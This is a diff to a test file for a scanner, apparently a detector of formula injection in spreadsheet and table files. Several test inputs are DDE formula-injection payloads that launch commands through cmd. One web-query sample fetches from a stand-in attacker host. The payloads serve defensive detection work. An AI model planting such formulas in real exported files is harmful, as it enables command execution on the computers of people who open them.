@@ -37,8 +37,8 @@ def test_a_formula_is_found_wherever_a_field_begins(before: bytes, formula: byte
 
 def test_a_file_made_of_links_is_searched_so_far_and_no_further() -> None:
     link = b"a|b!c,\n"
-    assert found(link * 19_999 + FORMULA) == ["office-dde"]
-    part = Part("1/table.csv", link * 20_001)
+    assert found(link * 99_999 + FORMULA) == ["office-dde"]
+    part = Part("1/table.csv", link * 100_001)
     scan = SheetText().scan(part, Context(part, Budget(ScanOptions())))
     assert list(scan) == [part.unscanned("too-large", "links in a table")]
 
@@ -60,5 +60,26 @@ def test_octets_that_are_no_text_are_no_formula(octets: bytes) -> None:
     assert found(b"x" * 256 + octets) == []
 
 
-def test_a_formula_beyond_what_is_searched_is_not_looked_for() -> None:
-    assert found(b"|" * (4 << 20) + b"\n" + FORMULA) == []
+def test_text_is_searched_to_its_end_and_other_octets_so_far() -> None:
+    assert found(b"|" * (4 << 20) + b"\n" + FORMULA) == ["office-dde"]
+    assert found(b"\x01" * 300 + b"|" * (4 << 20) + b"\n" + FORMULA) == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        b"<table><tr><td>=cmd|&#39;/C calc&#39;!A0</td></tr></table>",
+        b"<td x:fmla=\"=cmd|'/C calc'!A0\">",
+        "a\t=cmd|'/C calc'!A0\r\n".encode("utf-16"),
+        b"@SUM(1,2,cmd|'/C calc'!A0)",
+        b'"=DDE(""cmd"";""/C calc"";""x"")"',
+        b"a;=dde('cmd','/C calc','x')",
+    ],
+)
+def test_formulas_in_other_tables(text: bytes) -> None:
+    assert found(text) == ["office-dde"]
+
+
+def test_a_web_query_fetches_from_elsewhere() -> None:
+    assert found(b"WEB\r\n1\r\nhttps://evil.example/q.dat\r\n") == ["office-remote-template"]
+    assert found(b"WEB\r\n1\r\nC:\\q.htm\r\n") == found(b"WEB 1\r\nhttps://evil.example/\r\n") == []
